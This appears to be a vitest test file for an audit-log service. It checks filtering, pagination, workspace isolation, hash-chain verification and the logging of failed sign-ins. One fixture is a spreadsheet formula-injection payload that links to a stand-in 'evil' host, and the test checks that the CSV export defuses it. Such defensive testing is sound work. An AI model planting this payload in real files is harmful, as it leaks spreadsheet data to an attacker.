import { createHash } from "node:crypto";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { insertAudit } from "../store/audit.ts";
import { type RunningHeed, runningHeed } from "../testing/running-heed.ts";

let heed: RunningHeed;
beforeAll(async () => {
  heed = await runningHeed({ settings: { HEED_TRUST_PROXY: "127.0.0.1" } });
});
afterAll(() => heed.close());

type Item = { seq: number; action: string; object: string; actorName: string | null; hash: string };
const list = async (query = ""): Promise<{ items: Item[]; nextCursor: string | null }> =>
  (await heed.call("GET", `/audit${query}`)).body;
const from = (ip: string) => ({ "x-forwarded-for": ip });

describe("the list", () => {
  it("names who did it and to what, and tells the hashes", async () => {
    const lan = await heed.session();
    const made = (await heed.call("POST", "/keys", { session: lan, body: { name: "web shop" } })).body;
    const [first] = (await list("?limit=1")).items;
    expect(first).toMatchObject({
      actor: `member:${heed.owner.id}`,
      actorName: "Lan",
      action: "key.created",
      object: `key:${made.id}`,
      objectName: "web shop",
      details: { name: "web shop" },
      hash: expect.stringMatching(/^[0-9a-f]{64}$/),
    });
    await heed.call("DELETE", `/keys/${made.id}`);
    const [revoked] = (await list("?limit=1")).items;
    expect(revoked).toMatchObject({ action: "key.revoked", objectName: "web shop" });
  });

  it("finds by actor, beginning of the action, object, time and letters", async () => {
    const { items } = await list("?limit=200");
    const made = items.find(({ action, actorName }) => action === "key.created" && actorName === "Lan");
    const all = async (query: string) => (await list(`?limit=200&${query}`)).items.map(({ seq }) => seq);
    expect(await all(`actor=member:${heed.owner.id}`)).toContain(made?.seq);
    expect(await all("actor=cli")).not.toContain(made?.seq);
    expect(await all("action=key.c")).toContain(made?.seq);
    expect(await all("action=session")).not.toContain(made?.seq);
    expect(await all("action=k_y")).toEqual([]);
    expect(await all(`object=${made?.object}`)).toHaveLength(2);
    expect(await all("q=web%20SHOP")).toContain(made?.seq);
    expect(await all("q=lan")).toContain(made?.seq);
    expect(await all("q=%25")).toEqual([]);
    expect(await all("to=2020-01-01T00:00:00Z")).toEqual([]);
    expect(await all("from=2020-01-01T00:00:00Z")).toHaveLength(items.length);
    expect(await all(`from=${new Date(Date.now() + 60_000).toISOString()}`)).toEqual([]);
    const wrong = await heed.call("GET", "/audit?from=yesterday");
    expect(wrong.status).toBe(422);
    expect(wrong.body.errors[0].path).toBe("from");
  });

  it("comes in pages without a gap, also when letters are looked for", async () => {
    for (const query of ["", "&q=e"]) {
      const seen: number[] = [];
      let cursor: string | null = "";
      while (cursor !== null) {
        const page: Awaited<ReturnType<typeof list>> = await list(
          `?limit=3${query}${cursor === "" ? "" : `&cursor=${cursor}`}`,
        );
        seen.push(...page.items.map(({ seq }) => seq));
        cursor = page.nextCursor;
      }
      expect(seen).toEqual((await list(`?limit=200${query}`)).items.map(({ seq }) => seq));
      expect(seen.length).toBeGreaterThan(5);
    }
    expect((await heed.call("GET", "/audit?cursor=WyJ4IiwiMSJd")).status).toBe(422);
  });

  it("shows nothing of another workspace, in lists, files or the status", async () => {
    const { key } = heed.other;
    const theirs = (await heed.call("GET", "/audit", { key })).body.items;
    expect(theirs.map(({ actor }: { actor: string }) => actor)).toEqual(["cli"]);
    const file = await heed.call("GET", "/audit/export?format=ndjson", { key });
    expect(file.text).not.toContain(heed.workspaceId);
    expect((await heed.call("GET", "/audit/status", { key })).body.entries).toBeLessThan(5);
  });
});

describe("a file of it", () => {
  const formula = '=HYPERLINK("http://evil/"&A1)';

  it("S25, S33: CSV defuses formulas and keeps a line a line in quotes", async () => {
    const now = new Date();
    const odd = {
      actor: "cli",
      action: "odd",
      object: `${formula}\r\n+1`,
      details: { name: "@SUM(A1)" },
      now,
    };
    await insertAudit(heed.ctx.db, heed.workspaceId, odd);
    const answer = await heed.call("GET", "/audit/export");
    expect(answer.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(answer.headers.get("content-disposition")).toMatch(
      /^attachment; filename="audit-\d{4}-\d\d-\d\d\.csv"$/,
    );
    expect(answer.headers.get("x-content-type-options")).toBe("nosniff");
    expect(answer.text.startsWith("seq,at,actor,") || answer.text.startsWith("\uFEFFseq,at,actor,")).toBe(
      true,
    );
    expect(answer.text).toContain(`,"'=HYPERLINK(""http://evil/""&A1)\r\n+1",`);
    const rows: string[][] = parse(answer.text, { bom: true });
    expect(rows.every((cells) => cells.length === 11)).toBe(true);
    expect(rows.flat().filter((cell) => /^[=+@-]/.test(cell))).toEqual([]);
  });

  it("is itself in the log, with what was asked for", async () => {
    await heed.call("GET", "/audit/export?format=ndjson&action=key");
    const [entry] = (await list("?limit=1")).items;
    expect(entry).toMatchObject({ action: "audit.exported", details: { format: "ndjson", action: "key" } });
  });

  it("NDJSON is enough to verify the chain without Heed", async () => {
    const odd = '\u0085 \u2028 \u007f \\u0085 \\\\ " 😀';
    const entry = { actor: "cli", action: "odd", object: odd, details: { odd, n: 0.1, deep: [{ a: null }] } };
    await insertAudit(heed.ctx.db, heed.workspaceId, { ...entry, now: new Date() });
    const { text } = await heed.call("GET", "/audit/export?format=ndjson");
    const lines = text.trimEnd().split("\n");
    let before = "0".repeat(64);
    for (const line of lines) {
      const row = JSON.parse(line);
      const mark = ',"details":';
      const details = line
        .slice(line.indexOf(mark) + mark.length, -1)
        .replace(/\\\\|\\u(007f|00[89][0-9a-f]|202[89])/g, (sign, code?: string) =>
          code === undefined ? sign : String.fromCharCode(Number.parseInt(code, 16)),
        );
      const sized = (field: string) => `${Buffer.byteLength(field)}:${field}`;
      const bytes = [
        "heed-audit-1",
        row.workspace,
        row.seq,
        row.id,
        row.at,
        ...[row.actor, row.action, row.object, details].map(sized),
        before,
      ].join("\n");
      expect(row.previous).toBe(before);
      before = createHash("sha256").update(bytes).digest("hex");
      expect(row.hash).toBe(before);
    }
    expect(lines.length).toBeGreaterThan(10);
  });
});

it("the status tells up to where it is sealed, and that it is broken", async () => {
  const status = async () => (await heed.call("GET", "/audit/status")).body;
  await expect
    .poll(async () => (await status()).sealedUpTo, { timeout: 10_000 })
    .toBe((await status()).entries);
  expect(await status()).toMatchObject({
    broken: null,
    since: expect.any(String),
    checkedAt: expect.any(String),
  });
  const other = { key: heed.other.key };
  await expect
    .poll(async () => (await heed.call("GET", "/audit/status", other)).body.sealedUpTo)
    .toBeGreaterThan(0);
  await heed.ctx.pool.query("update audit_heads set hash = sha256(hash) where workspace_id = $1", [
    heed.other.workspaceId,
  ]);
  await heed.call("POST", "/keys", { ...other, body: { name: "x" } });
  await expect
    .poll(async () => (await heed.call("GET", "/audit/status", other)).body.broken, { timeout: 10_000 })
    .toMatchObject({ kind: "changed" });
});

describe("what no handler sees is noted", () => {
  const of = async (action: string) => (await list(`?limit=200&action=${action}`)).items;

  it("a wrong password, once an hour for a network and an account; an unknown account nowhere", async () => {
    const signIn = (email: string, ip: string) =>
      heed.call("POST", "/session", {
        key: undefined,
        body: { email, password: "guess" },
        headers: from(ip),
      });
    for (let i = 0; i < 3; i += 1) await signIn(heed.owner.email, "203.0.113.9");
    await signIn(heed.owner.email, "198.51.100.9");
    await signIn("nobody@example.com", "203.0.113.9");
    await expect.poll(async () => (await of("session.refused")).length).toBe(2);
    expect(await of("session.refused")).toContainEqual(
      expect.objectContaining({
        actor: "network:203.0.113.0/24",
        object: `member:${heed.owner.id}`,
        objectName: "Lan",
      }),
    );
    for (let i = 0; i < 12; i += 1) await signIn(heed.owner.email, "203.0.113.9");
    await expect.poll(async () => (await of("session.locked-out")).length).toBe(1);
    expect(await of("session.refused")).toHaveLength(2);
  });

  it("refusals in series, not a single one", async () => {
    const { viewer } = heed.keys;
    for (let i = 0; i < 9; i += 1) await heed.call("GET", "/audit", { key: viewer });
    expect(await of("permission.denied")).toEqual([]);
    for (let i = 0; i < 4; i += 1) await heed.call("GET", "/audit", { key: viewer });
    await expect.poll(async () => (await of("permission.denied")).length).toBe(1);
    expect((await of("permission.denied"))[0]).toMatchObject({
      actorName: "viewer",
      details: { times: 10, last: "/audit" },
    });
  });

  it("a key's use from another network", async () => {
    const key = heed.keys.analyst;
    await heed.call("GET", "/surveys", { key, headers: from("203.0.113.1") });
    await heed.call("GET", "/surveys", { key, headers: from("203.0.113.77") });
    await heed.call("GET", "/surveys", { key, headers: from("2001:db8:1:2::7") });
    await expect.poll(async () => (await of("key.network")).length).toBeGreaterThan(0);
    const [entry] = (await of("key.network")).filter(({ actorName }) => actorName === "analyst");
    expect(entry).toMatchObject({ details: { network: "2001:db8:1:2::/64" } });
  });
});
